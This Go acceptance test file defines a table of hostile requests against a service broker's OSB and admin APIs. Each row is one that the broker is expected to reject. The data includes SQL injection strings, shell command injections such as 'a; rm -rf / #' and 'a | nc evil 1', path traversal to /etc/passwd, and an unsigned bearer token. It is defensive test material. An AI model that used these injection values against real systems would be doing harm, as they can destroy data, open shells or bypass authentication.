package acceptance_test

// The rows of the hostile table (hostile_test.go): every OSB route crossed with missing and
// wrong credentials, wrong API versions and unknown methods; every id in a path crossed with
// the hostile ids; every body route crossed with malformed, oversized and wrongly typed
// bodies; hostile query values and identity headers; and SQL, shell and Redis-glob
// metacharacters where they are refused for another reason (such an id is otherwise valid).

import (
	"encoding/base64"
	"fmt"
	"net/http"
	"slices"
	"strings"
)

// hostileIDs are ids the broker refuses wherever they stand in a path, percent-encoded.
var hostileIDs = []struct{ name, id string }{
	{"a NUL byte", "{X}%00"},
	{"a control character", "{X}%01x"},
	{"an escape character", "{X}%1B%5B2J"},
	{"DEL", "{X}%7F"},
	{"a C1 control character", "{X}%C2%85"},
	{"invalid UTF-8", "{X}%FF%FE"},
	{"one byte over 255", "{X}" + strings.Repeat("x", 256-36)},
	{"10 kB", "{X}" + strings.Repeat("x", 10<<10)},
	{"an encoded slash", "{X}%2Fx"},
	{"an encoded slash in lower case", "{X}%2fx"},
	{"a NUL after SQL", "{X}'%3B%20DROP%20TABLE%20instances%3B--%00"},
}

// metacharacters are SQL, shell and Redis-glob strings.
var metacharacters = []string{
	"'; DROP TABLE instances; --", `" OR "1"="1`, "1' OR '1'='1' /*", "$(touch /tmp/omnibroker-pwned)",
	"`id`", "a; rm -rf / #", "a | nc evil 1", "*", "ob:*", "[a-z]*?", `\*`, "../../etc/passwd",
}

func identityOf(raw string) string {
	return "cloudfoundry " + base64.StdEncoding.EncodeToString([]byte(raw))
}

// hostileTable is every row of the hostile table.
var hostileTable = func() []named {
	var rows []named
	add := func(name string, h hostileRequest) { rows = append(rows, named{name, h}) }

	for _, r := range osbRoutes {
		for _, a := range []struct {
			name  string
			spoil func(c *osbClient)
		}{
			{"without credentials", func(c *osbClient) { c.noAuth = true }},
			{"with a wrong password", func(c *osbClient) { c.password = randomBase62(32) }},
			{"with the password and more", func(c *osbClient) { c.password += "x" }},
			{"with an empty password", func(c *osbClient) { c.password = "" }},
			{"with an unknown user", func(c *osbClient) { c.username = "admin" }},
			{"with SQL for a user", func(c *osbClient) { c.username = "' OR '1'='1" }},
			{"with Authorization that is not base64", spoilAuth("Basic !!!not-base64")},
			{"with a bearer token", spoilAuth("Bearer eyJhbGciOiJub25lIn0.e30.")},
		} {
			add(r.name+" "+a.name, r.spoiled(a.spoil, http.StatusUnauthorized))
		}
		for _, v := range []string{"", "1.0", "2.10", "2.17x", "02.17", "3.15", "2.", "2.15,2.16", "2.1e1", "two"} {
			version := v
			add(fmt.Sprintf("%s with API version %q", r.name, v), r.spoiled(func(c *osbClient) { c.version = version }, http.StatusPreconditionFailed))
		}
	}
	for _, name := range []string{"GET instance", "GET binding"} {
		for _, v := range []string{"2.11", "2.12", "2.13"} {
			version := v
			add(fmt.Sprintf("%s with API version %s, which has no such endpoint", name, v), routeNamed(name).spoiled(func(c *osbClient) { c.version = version }, http.StatusPreconditionFailed))
		}
	}

	for _, r := range osbRoutes[1:] {
		for _, at := range []string{"{I}", "{B}"} {
			if !strings.Contains(r.target, at) {
				continue
			}
			for _, id := range hostileIDs {
				h := r.spoiled(nil, http.StatusBadRequest)
				h.target = strings.Replace(r.target, at, strings.ReplaceAll(id.id, "{X}", at), 1)
				add(fmt.Sprintf("%s, %s with %s", r.name, map[string]string{"{I}": "instance id", "{B}": "binding id"}[at], id.name), h)
			}
		}
	}

	methods := []string{http.MethodPost, "BREW", http.MethodOptions, http.MethodTrace, "PROPFIND", "LOCK"}
	for _, r := range []osbRoute{routeNamed("catalog"), routeNamed("GET instance"), routeNamed("instance last_operation"), routeNamed("GET binding"), routeNamed("binding last_operation")} {
		for _, m := range methods {
			add(r.name+" route, method "+m, hostileRequest{method: m, target: r.target, status: http.StatusMethodNotAllowed})
		}
	}
	for _, m := range []struct{ route, method string }{
		{"catalog", http.MethodPut}, {"catalog", http.MethodDelete}, {"catalog", http.MethodPatch},
		{"GET binding", http.MethodPatch}, {"instance last_operation", http.MethodPut}, {"instance last_operation", http.MethodDelete},
		{"binding last_operation", http.MethodPatch}, {"binding last_operation", http.MethodDelete},
	} {
		add(m.route+" route, method "+m.method, hostileRequest{method: m.method, target: routeNamed(m.route).target})
	}

	provision := `{"service_id":"` + pgServiceID + `","plan_id":"` + quickPlanID + `","organization_guid":"o","space_guid":"s"`
	bodies := []struct{ name, body string }{
		{"an empty body", ""},
		{"malformed JSON", `{"service_id": "` + pgServiceID + `", "plan_id": `},
		{"a JSON array", `[]`},
		{"a JSON string", `"` + pgServiceID + `"`},
		{"a JSON number", `42`},
		{"JSON null", `null`},
		{"text that is not JSON", `service_id=` + pgServiceID},
		{"XML", `<service_id>` + pgServiceID + `</service_id>`},
		{"a stray brace after the object", provision + `}}`},
		{"a second object after the first", provision + `}{}`},
		{"service_id as a number", `{"service_id":7,"plan_id":"` + quickPlanID + `"}`},
		{"plan_id as a boolean", `{"service_id":"` + pgServiceID + `","plan_id":true}`},
		{"parameters as a string", provision + `,"parameters":"{}"}`},
		{"parameters as an array", provision + `,"parameters":[1]}`},
		{"context as a number", provision + `,"context":1}`},
		{"organization_guid as an object", `{"service_id":"` + pgServiceID + `","plan_id":"` + quickPlanID + `","organization_guid":{},"space_guid":"s"}`},
		{"a NUL in a string", provision + `,"context":{"space_name":"a\u0000"}}`},
		{"a NUL in a key", provision + `,"parameters":{"a\u0000":1}}`},
		{"an escape character in context", provision + `,"context":{"x":"\u001b[2J"}}`},
		{"raw bytes that are not UTF-8", provision + ",\"context\":{\"x\":\"\xff\xfe\"}}"},
		{"a service_id of 10 kB", `{"service_id":"` + strings.Repeat("s", 10<<10) + `","plan_id":"` + quickPlanID + `"}`},
		{"nesting 20,000 deep", provision + `,"parameters":` + strings.Repeat(`{"a":`, 20000) + `1` + strings.Repeat(`}`, 20000) + `}`},
		{"more than 1 MiB", provision + `,"parameters":{"a":"` + strings.Repeat("x", 1<<20) + `"}}`},
		{"SQL for a plan_id", `{"service_id":"` + pgServiceID + `","plan_id":"'; DROP TABLE plans; --","organization_guid":"o","space_guid":"s","bind_resource":{}}`},
	}
	for _, r := range []osbRoute{routeNamed("provision"), routeNamed("update"), routeNamed("bind")} {
		for _, b := range bodies {
			if strings.Contains(b.name, "organization_guid") && r.name != "provision" {
				continue // a field only a provision has; the others ignore it
			}
			status := http.StatusBadRequest
			if strings.HasPrefix(b.name, "SQL") && r.name == "update" {
				status = 0 // a plan the catalog lacks, of an instance that does not exist: 404 as well
			}
			add(r.name+" with "+b.name, hostileRequest{method: r.method, target: r.target, body: b.body, status: status})
		}
	}

	for _, m := range metacharacters {
		p := routeNamed("provision")
		add(fmt.Sprintf("provision with plan_id %q", m), hostileRequest{method: p.method, target: p.target, body: with(provisionBody(quickPlan, nil), "plan_id", m), status: http.StatusBadRequest})
		add(fmt.Sprintf("provision with service_id %q", m), hostileRequest{method: p.method, target: p.target, body: with(provisionBody(redisPlan, nil), "service_id", m), status: http.StatusBadRequest})
		add(fmt.Sprintf("provision of the id %q without plan_id", m), hostileRequest{method: p.method, target: "/v2/service_instances/" + strings.ReplaceAll(m, "/", "%2F") + "?accepts_incomplete=true", body: with(provisionBody(mysqlPlan, nil), "plan_id", nil), status: http.StatusBadRequest})
		add(fmt.Sprintf("deprovision of the id %q without service_id", m), hostileRequest{method: http.MethodDelete, target: "/v2/service_instances/" + strings.ReplaceAll(m, "/", "%2F") + "?plan_id=" + rabbitPlanID, status: http.StatusBadRequest})
	}

	lastOp := "/v2/service_instances/{I}/last_operation"
	for _, q := range []struct{ name, target string }{
		{"accepts_incomplete twice", routeNamed("provision").target + "&accepts_incomplete=false"},
		{"plan_id twice", routeNamed("deprovision").target + "&plan_id=" + quickPlanID},
		{"service_id twice on unbind", routeNamed("unbind").target + "&service_id=x"},
		{"operation twice", lastOp + "?operation=a&operation=b"},
		{"an operation with a NUL", lastOp + "?operation=op%00"},
		{"an operation with SQL and a NUL", lastOp + "?operation=%27%20OR%201%3D1--%00"},
		{"an operation of 10 kB", lastOp + "?operation=" + strings.Repeat("o", 10<<10)},
		{"an operation that is not UTF-8", routeNamed("binding last_operation").target + "&operation=%FF"},
		{"a malformed percent escape", lastOp + "?operation=%zz"},
		{"a semicolon in the query", lastOp + "?operation=a;b=c"},
		{"accepts_incomplete with a NUL", "/v2/service_instances/{I}?accepts_incomplete=true%00"},
		{"a service_id over 255 bytes", "/v2/service_instances/{I}?service_id=" + strings.Repeat("s", 256) + "&plan_id=" + quickPlanID},
		{"a plan_id with a control character", "/v2/service_instances/{I}/service_bindings/{B}?service_id=" + pgServiceID + "&plan_id=p%07"},
		{"a parameter name with a NUL", lastOp + "?x%00y=1"},
	} {
		method := http.MethodGet
		var body any
		switch {
		case strings.HasPrefix(q.target, routeNamed("provision").target), strings.Contains(q.target, "accepts_incomplete=true%00"):
			method, body = http.MethodPut, provisionBody(quickPlan, nil)
		case !strings.Contains(q.target, "last_operation"):
			method = http.MethodDelete
		}
		add("a query with "+q.name, hostileRequest{method: method, target: q.target, body: body, status: http.StatusBadRequest})
	}

	for _, id := range []struct{ name, value string }{
		{"without a value", "cloudfoundry"},
		{"without a platform", " e30="},
		{"with two spaces", "cloudfoundry  e30="},
		{"that is not base64", "cloudfoundry %%%"},
		{"in unpadded base64", "cloudfoundry e30"},
		{"that is not JSON", identityOf("user")},
		{"that is a JSON array", identityOf(`["u"]`)},
		{"with a NUL inside", identityOf(`{"user_id":"u\u0000"}`)},
		{"that is not UTF-8 inside", identityOf("{\"user_id\":\"\xff\"}")},
		{"of 5 kB", identityOf(`{"user_id":"` + strings.Repeat("u", 5<<10) + `"}`)},
	} {
		for _, r := range []osbRoute{routeNamed("provision"), routeNamed("bind"), routeNamed("deprovision")} {
			add(r.name+" with an originating identity "+id.name, r.spoiled(spoilHeader("X-Broker-API-Originating-Identity", id.value), http.StatusBadRequest))
		}
	}
	for _, h := range []struct{ name, header, value string }{
		{"a request identity of 5 kB", "X-Broker-API-Request-Identity", strings.Repeat("r", 5<<10)},
		{"a correlation id that is not UTF-8", "X-Correlation-ID", "c\xff"},
		{"an X-Request-ID of 5 kB", "X-Request-ID", strings.Repeat("r", 5<<10)},
		{"an info location that is not UTF-8", "X-Api-Info-Location", "\xfe"},
	} {
		for _, r := range []osbRoute{routeNamed("provision"), routeNamed("update"), routeNamed("GET binding")} {
			add(r.name+" with "+h.name, r.spoiled(spoilHeader(h.header, h.value), http.StatusBadRequest))
		}
	}
	rows = append(rows, adminRows()...)
	return rows
}()

// spoilHeader sets header name to value on each request.
func spoilHeader(name, value string) func(c *osbClient) {
	return func(c *osbClient) {
		c.spoil = func(r *http.Request) { r.Header.Set(name, value) }
	}
}

// spoilAuth sets the Authorization header to value.
func spoilAuth(value string) func(c *osbClient) { return spoilHeader("Authorization", value) }

// spoiled is the route, well formed, sent by a client that spoil changes.
func (r osbRoute) spoiled(spoil func(c *osbClient), status int) hostileRequest {
	return hostileRequest{method: r.method, target: r.target, body: r.body(), spoil: spoil, status: status}
}

// osbRoute is one OSB endpoint as a platform calls it, well formed but for what a row spoils.
type osbRoute struct {
	name, method, target string
	// body makes a fresh body, nil for none.
	body func() any
	// plan is the plan the body and query name.
	plan plan
}

func noBody() any { return nil }

// osbRoutes are the ten OSB endpoints, each on a plan of another backend in turn, so that
// the table looks for objects of all four.
var osbRoutes = func() []osbRoute {
	instance, binding := "/v2/service_instances/{I}", "/v2/service_instances/{I}/service_bindings/{B}"
	query := func(p plan) string {
		return "?accepts_incomplete=true&service_id=" + p.serviceID + "&plan_id=" + p.planID
	}
	p := []plan{quickPlan, mysqlPlan, redisPlan, rabbitPlan}
	return []osbRoute{
		{"catalog", http.MethodGet, "/v2/catalog", noBody, quickPlan},
		{"provision", http.MethodPut, instance + "?accepts_incomplete=true", func() any { return provisionBody(p[0], nil) }, p[0]},
		{"update", http.MethodPatch, instance + "?accepts_incomplete=true", func() any { return updateBody(p[1], p[1], nil) }, p[1]},
		{"deprovision", http.MethodDelete, instance + query(p[2]), noBody, p[2]},
		{"GET instance", http.MethodGet, instance, noBody, p[3]},
		{"instance last_operation", http.MethodGet, instance + "/last_operation" + query(p[0]), noBody, p[0]},
		{"bind", http.MethodPut, binding + "?accepts_incomplete=true", func() any { return bindBody(p[1], newID(), nil) }, p[1]},
		{"unbind", http.MethodDelete, binding + query(p[2]), noBody, p[2]},
		{"GET binding", http.MethodGet, binding, noBody, p[3]},
		{"binding last_operation", http.MethodGet, binding + "/last_operation" + query(p[0]), noBody, p[0]},
	}
}()

// routeNamed is the route of osbRoutes called name.
func routeNamed(name string) osbRoute {
	i := slices.IndexFunc(osbRoutes, func(r osbRoute) bool { return r.name == name })
	return osbRoutes[i]
}

// adminRoutes are the operator API's routes (/admin/v1), which the table asks with the
// operator's login unless a row spoils it.
var adminRoutes = []struct{ name, method, target string }{
	{"admin orphans", http.MethodGet, "/admin/v1/orphans"},
	{"admin orphans purge", http.MethodPost, "/admin/v1/orphans/purge"},
	{"admin orphans restore", http.MethodPost, "/admin/v1/orphans/restore"},
	{"admin repairs", http.MethodGet, "/admin/v1/repairs"},
	{"admin operations", http.MethodGet, "/admin/v1/operations"},
	{"admin operation", http.MethodGet, "/admin/v1/operations/{I}"},
	{"admin operation retry", http.MethodPost, "/admin/v1/operations/{I}/retry"},
	{"admin operation cancel", http.MethodPost, "/admin/v1/operations/{I}/cancel"},
	{"admin nodes", http.MethodGet, "/admin/v1/nodes"},
	{"admin node drain", http.MethodPost, "/admin/v1/nodes/pg-local/drain"},
	{"admin node undrain", http.MethodPost, "/admin/v1/nodes/pg-local/undrain"},
	{"admin catalog check", http.MethodGet, "/admin/v1/catalog/check"},
	{"admin instances", http.MethodGet, "/admin/v1/instances"},
	{"admin instance", http.MethodGet, "/admin/v1/instances/{I}"},
	{"admin instance purge", http.MethodPost, "/admin/v1/instances/{I}/purge"},
}

// asOperator spoils a client into the operator API's, then spoil (when not nil) spoils it further.
func asOperator(spoil func(c *osbClient)) func(c *osbClient) {
	return func(c *osbClient) {
		c.username, c.password, c.version, c.userID = adminUsername, adminPassword, "", ""
		if spoil != nil {
			spoil(c)
		}
	}
}

// adminRows are the operator API's rows: its routes without its login or with the platform's,
// hostile names in its paths, queries and bodies it does not take.
func adminRows() []named {
	var rows []named
	add := func(name, method, target string, body any, spoil func(c *osbClient), status int) {
		rows = append(rows, named{name, hostileRequest{method: method, target: target, body: body, spoil: asOperator(spoil), status: status}})
	}
	for _, r := range adminRoutes {
		for _, a := range []struct {
			name  string
			spoil func(c *osbClient)
		}{
			{"without credentials", func(c *osbClient) { c.noAuth = true }},
			{"with the platform's login", func(c *osbClient) { c.username, c.password = brokerUsername, brokerPassword }},
			{"with a wrong password", func(c *osbClient) { c.password = randomBase62(32) }},
			{"with the password and more", func(c *osbClient) { c.password += "x" }},
			{"with SQL for a user", func(c *osbClient) { c.username = "' OR '1'='1" }},
			{"with a bearer token", spoilAuth("Bearer eyJhbGciOiJub25lIn0.e30.")},
		} {
			add(r.name+" "+a.name, r.method, r.target, nil, a.spoil, http.StatusUnauthorized)
		}
	}
	for _, id := range hostileIDs {
		add("admin path with "+id.name, http.MethodGet, "/admin/v1/orphans/"+strings.ReplaceAll(id.id, "{X}", "{I}"), nil, nil, http.StatusBadRequest)
	}
	for _, q := range []struct{ name, query string }{
		{"backend twice", "backend=redis&backend=mysql"},
		{"a backend with a NUL", "backend=redis%00"},
		{"a backend that is not UTF-8", "backend=%FF"},
		{"a backend of SQL", "backend=%27%3B%20DROP%20TABLE%20instances%3B--"},
		{"a node the catalog lacks", "node=..%2F..%2Fetc"},
		{"a parameter it does not take", "instance=x"},
		{"a malformed percent escape", "backend=%zz"},
	} {
		add("admin orphans with "+q.name, http.MethodGet, "/admin/v1/orphans?"+q.query, nil, nil, http.StatusBadRequest)
	}
	for _, id := range hostileIDs {
		for _, action := range []string{"", "/retry", "/cancel"} {
			method := http.MethodPost
			if action == "" {
				method = http.MethodGet
			}
			add("admin operation"+strings.ReplaceAll(action, "/", " ")+" with "+id.name, method,
				"/admin/v1/operations/"+strings.ReplaceAll(id.id, "{X}", "{I}")+action, map[string]string{"reason": "r"}, nil, http.StatusBadRequest)
		}
	}
	for _, q := range []struct{ name, query string }{
		{"a state that is not one", "state=stuck"},
		{"a state of SQL", "state=failed%27%20OR%20%271%27%3D%271"},
		{"a state twice", "state=failed&state=queued"},
		{"an older_than that is not a duration", "older_than=yesterday"},
		{"a negative older_than", "older_than=-5m"},
		{"an instance with a NUL", "instance=x%00"},
		{"a parameter it does not take", "backend=redis"},
	} {
		add("admin operations with "+q.name, http.MethodGet, "/admin/v1/operations?"+q.query, nil, nil, http.StatusBadRequest)
	}
	add("admin operation with a query", http.MethodGet, "/admin/v1/operations/{I}?state=failed", nil, nil, http.StatusBadRequest)
	for _, b := range []struct{ name, body string }{
		{"a JSON array", `[]`},
		{"malformed JSON", `{"reason":`},
		{"a field it does not take", `{"reason":"r","force":true}`},
		{"a second object after the first", `{"reason":"r"}{}`},
		{"no reason", `{}`},
		{"a reason of spaces", `{"reason":"   "}`},
		{"a reason with a NUL", `{"reason":"r\u0000"}`},
		{"a reason of two lines", `{"reason":"r\nDROP TABLE instances"}`},
		{"a reason over 500 bytes", `{"reason":"` + strings.Repeat("x", 501) + `"}`},
		{"more than 1 MiB", `{"reason":"` + strings.Repeat("x", 1<<20) + `"}`},
	} {
		add("admin operation cancel with "+b.name, http.MethodPost, "/admin/v1/operations/{I}/cancel", b.body, nil, http.StatusBadRequest)
	}
	add("admin operation retry with a body it does not take", http.MethodPost, "/admin/v1/operations/{I}/retry", `{"force":true}`, nil, http.StatusBadRequest)
	for _, reason := range []struct{ name, body string }{
		{"a NUL", `{"reason":"a\u0000"}`},
		{"an escape character", `{"reason":"\u001b[2J"}`},
		{"2 kB", `{"reason":"` + strings.Repeat("r", 2000) + `"}`},
		{"a number", `{"reason":7}`},
	} {
		add("admin node drain with a reason of "+reason.name, http.MethodPost, "/admin/v1/nodes/pg-local/drain", reason.body, nil, http.StatusBadRequest)
	}
	add("admin drain of a node the catalog lacks", http.MethodPost, "/admin/v1/nodes/'%3B%20DROP%20TABLE%20node_drains%3B--/drain", nil, nil, http.StatusNotFound)
	for _, id := range hostileIDs {
		add("admin instance purge with "+id.name, http.MethodPost, "/admin/v1/instances/"+strings.ReplaceAll(id.id, "{X}", "{I}")+"/purge", nil, nil, http.StatusBadRequest)
	}
	for _, q := range []struct{ name, query string }{
		{"a state that is not one", "state=stuck"},
		{"a state of SQL", "state=%27%3B%20DROP%20TABLE%20instances%3B--"},
		{"a limit of 0", "limit=0"},
		{"a limit of a million", "limit=1000000"},
		{"a parameter it does not take", "backend=redis"},
		{"a node twice", "node=a&node=b"},
		{"a plan with a NUL", "plan=redis%00"},
	} {
		add("admin instances with "+q.name, http.MethodGet, "/admin/v1/instances?"+q.query, nil, nil, http.StatusBadRequest)
	}
	add("admin instance that is not there", http.MethodGet, "/admin/v1/instances/{I}", nil, nil, http.StatusNotFound)
	add("admin instance with a query parameter", http.MethodGet, "/admin/v1/instances/{I}?forget=true", nil, nil, http.StatusBadRequest)
	add("admin purge of an instance that is not there", http.MethodPost, "/admin/v1/instances/{I}/purge", nil, nil, http.StatusNotFound)
	add("admin forget of an instance that is not there", http.MethodPost, "/admin/v1/instances/{I}/purge", `{"forget":true}`, nil, http.StatusNotFound)
	for _, b := range []struct{ name, body string }{
		{"forget as a string", `{"forget":"yes"}`},
		{"a field it does not take", `{"forget":true,"yes":true}`},
		{"a JSON array", `[]`},
		{"a second object after the first", `{}{}`},
	} {
		add("admin instance purge with "+b.name, http.MethodPost, "/admin/v1/instances/{I}/purge", b.body, nil, http.StatusBadRequest)
	}
	add("admin repairs with a limit of a million", http.MethodGet, "/admin/v1/repairs?limit=1000000", nil, nil, http.StatusBadRequest)
	add("admin repairs with a since that is not a duration", http.MethodGet, "/admin/v1/repairs?since=yesterday", nil, nil, http.StatusBadRequest)
	add("admin catalog check with a parameter", http.MethodGet, "/admin/v1/catalog/check?plan=x", nil, nil, http.StatusBadRequest)
	for _, b := range []struct{ name, body string }{
		{"a JSON array", `[]`},
		{"malformed JSON", `{"backend":`},
		{"a field it does not take", `{"instance_id":"x"}`},
		{"a second object after the first", `{}{}`},
		{"a backend the catalog lacks", `{"backend":"'; DROP TABLE instances; --"}`},
		{"a node with a NUL", `{"node":"redis-local\u0000"}`},
		{"more than 1 MiB", `{"backend":"` + strings.Repeat("x", 1<<20) + `"}`},
	} {
		for _, r := range adminRoutes[1:3] {
			add(r.name+" with "+b.name, r.method, r.target, b.body, nil, http.StatusBadRequest)
		}
	}
	return rows
}
